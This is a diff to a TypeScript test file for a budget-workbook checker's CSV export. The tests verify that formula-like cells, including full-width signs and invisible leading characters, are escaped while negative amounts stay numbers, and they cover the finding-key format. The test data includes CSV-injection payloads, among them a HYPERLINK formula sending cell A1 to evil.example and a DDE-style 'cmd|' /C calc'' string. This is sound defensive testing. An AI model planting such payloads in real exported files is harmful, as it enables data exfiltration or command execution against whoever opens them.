@@ -3,7 +3,7 @@ import { samplePath } from '../../cli/sample';
 import { readXlsx } from '../../cli/xlsx';
 import { parseCsv } from '../../src/csv';
 import { checkWorkbookRaw } from '../../src/engine';
-import { escapeCsvCell, findingKey, findingsCsv, findingsHtml } from '../../src/export';
+import { escapeCsvCell, findingKey, findingsCsv, findingsHtml, isFindingKey, startsLikeFormula } from '../../src/export';
 import { render, type Finding, type RawFinding } from '../../src/findings';
 
 let raw: readonly RawFinding[];
@@ -19,12 +19,27 @@ function hostile(): Finding {
   return { ...findings[0], message: '=HYPERLINK("http://evil.example/?"&A1,"点此查看"), 合计\r\n不符', difference: '-0.01', reported: '+536.45', computed: '@SUM(D14:D17)' };
 }
 
+/** What a spreadsheet reads as the start of a formula, ASCII or full width. */
+const SIGNS = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];
+/** What may stand before the sign and still leave it the first thing a spreadsheet sees. */
+const LEADS = [' ', '  ', '\u00A0', '\u3000', '\u200B', '\u200C', '\u200D', '\u2060', '\uFEFF', '\u00AD', '\u202E', ' \u200B '];
+
 describe('CSV cells never run as formulas', () => {
   test.each([
     ['=1+1', "'=1+1"],
     ['+536.45', "'+536.45"],
-    ['-0.01', "'-0.01"],
+    ['-1+2', "'-1+2"],
+    ['-0.01abc', "'-0.01abc"],
     ['@SUM(A1)', "'@SUM(A1)"],
+    ['＝1+1', "'＝1+1"],
+    ['＋536.45', "'＋536.45"],
+    ['－cmd', "'－cmd"],
+    ['＠SUM(A1)', "'＠SUM(A1)"],
+    [' =1+1', "' =1+1"],
+    ['\u3000=1+1', "'\u3000=1+1"],
+    ['\u200B=HYPERLINK("x")', '"\'\u200B=HYPERLINK(""x"")"'],
+    ['\uFEFF+1', "'\uFEFF+1"],
+    ['\u00A0＠SUM(A1)', "'\u00A0＠SUM(A1)"],
     ['\tcmd', "'\tcmd"],
     ['\rcmd', '"\'\rcmd"'],
     ['=HYPERLINK("http://evil","点此")', '"\'=HYPERLINK(""http://evil"",""点此"")"'],
@@ -32,8 +47,28 @@ describe('CSV cells never run as formulas', () => {
     expect(escapeCsvCell(cell)).toBe(written);
   });
 
+  test('every formula sign, alone or after any white space or invisible lead, is made inert', () => {
+    for (const sign of SIGNS) {
+      for (const lead of ['', ...LEADS]) {
+        const cell = `${lead}${sign}cmd|' /C calc'!A0`;
+        expect([JSON.stringify(cell), startsLikeFormula(cell), escapeCsvCell(cell).replace(/^"/, '').startsWith("'")]).toEqual([JSON.stringify(cell), true, true]);
+      }
+    }
+  });
+
+  test('amounts stay numbers, negative ones included', () => {
+    for (const amount of ['-0.01', '-63.56', '-536.45', '-1,234.50', '-12', '0.01', '536.45', '1,234.50']) {
+      expect([amount, escapeCsvCell(amount).replace(/^"(.*)"$/, '$1')]).toEqual([amount, amount]);
+    }
+    // Only a plain amount is exempt: anything else after the minus sign is text that could be a formula.
+    for (const text of ['-0.01+A1', '-1e5', '- 0.01', '-.5', '-0.01 ', '--1', '-1,23.4']) expect(escapeCsvCell(text).replace(/^"/, '')).toMatch(/^'/);
+  });
+
   test('plain text and amounts are left as they are; commas, quotes and line breaks are quoted', () => {
     expect(escapeCsvCell('536.45')).toBe('536.45');
+    expect(escapeCsvCell(' 款 20805')).toBe(' 款 20805');
+    expect(escapeCsvCell('\u200B说明')).toBe('\u200B说明');
+    expect(escapeCsvCell('a-b=c')).toBe('a-b=c');
     expect(escapeCsvCell('款 20805 合计')).toBe('款 20805 合计');
     expect(escapeCsvCell('a,b')).toBe('"a,b"');
     expect(escapeCsvCell('说 "是"')).toBe('"说 ""是"""');
@@ -50,8 +85,9 @@ describe('CSV cells never run as formulas', () => {
     expect(message).toBe(`'${f.message}`);
     expect(reported).toBe("'+536.45");
     expect(computed).toBe("'@SUM(D14:D17)");
-    expect(difference).toBe("'-0.01");
-    expect(rows[1].every((c) => !/^[=+\-@\t\r]/.test(c))).toBe(true);
+    // An amount stays a number: -0.01, not the text '-0.01.
+    expect(difference).toBe('-0.01');
+    expect(rows[1].every((c) => !startsLikeFormula(c) || /^-\d+(\.\d+)?$/.test(c))).toBe(true);
   });
 });
 
@@ -78,13 +114,43 @@ describe('findingsCsv on the sample', () => {
   });
 });
 
-describe('findingKey', () => {
-  test('one key per sample finding, the same in both languages', () => {
+describe('findingKey: what an explanation belongs to', () => {
+  test('relation, sheet, subject, grade and difference; the same in both languages', () => {
     const keys = raw.map(findingKey);
     expect(new Set(keys).size).toBe(3);
-    // A finding covering several columns is keyed by its first column's total.
-    expect(keys).toEqual(['hierarchy-sum|收入总表|D13', 'hierarchy-sum|支出总表|D13', 'hierarchy-sum|一般公共预算支出表|D13']);
+    expect(keys.map((k) => JSON.parse(k) as unknown)).toEqual([
+      ['income.hierarchy', '收入总表', '20805', 'warning/rounding', '0.01'],
+      ['expenditure.hierarchy', '支出总表', '20805', 'warning/rounding', '0.01'],
+      ['general-expenditure.hierarchy', '一般公共预算支出表', '20805', 'warning/rounding', '0.01'],
+    ]);
     expect(raw.map((f) => findingKey(render(f, 'en')))).toEqual(keys);
+    expect(keys.every(isFindingKey)).toBe(true);
+  });
+
+  test('a change of grade or difference is another finding; a change of cell is not', () => {
+    const f = raw[0];
+    const key = findingKey(f);
+    expect(findingKey({ ...f, severity: 'error', rounding: false, difference: '63.56' })).not.toBe(key);
+    expect(findingKey({ ...f, severity: 'error', rounding: false })).not.toBe(key);
+    expect(findingKey({ ...f, difference: '-0.01' })).not.toBe(key);
+    // --strict grades the same 尾差 an error: another grade.
+    expect(findingKey({ ...f, severity: 'error' })).not.toBe(key);
+    expect(findingKey({ ...f, subject: '20806' })).not.toBe(key);
+    expect(findingKey({ ...f, relation: 'income.row-cross-foot' })).not.toBe(key);
+    expect(findingKey({ ...f, sheet: '收入总表 (2)' })).not.toBe(key);
+    // The same relation, subject, grade and difference with its total one row lower (a row inserted above):
+    // still the finding that was explained.
+    expect(findingKey({ ...f, cells: ['D14', 'E14', 'F14'] })).toBe(key);
+  });
+
+  test('a finding that is no relation is keyed by its rule; a subject-less one by its first cell', () => {
+    const structural: RawFinding = { ...raw[0], rule: 'code-structure', relation: undefined, subject: '2080505', severity: 'warning', rounding: false, difference: null };
+    expect(JSON.parse(findingKey(structural))).toEqual(['code-structure', '收入总表', '2080505', 'warning', '']);
+    expect(JSON.parse(findingKey({ ...structural, subject: undefined }))).toEqual(['code-structure', '收入总表', 'D13', 'warning', '']);
+  });
+
+  test('keys of the first format (rule|sheet|cell) and anything else are not finding keys', () => {
+    for (const k of ['hierarchy-sum|收入总表|D13', '', '[]', '["a","b"]', '["","s","x","warning",""]', '[1,2,3,4,5]', '{"a":1}', 'null']) expect([k, isFindingKey(k)]).toEqual([k, false]);
   });
 });
 
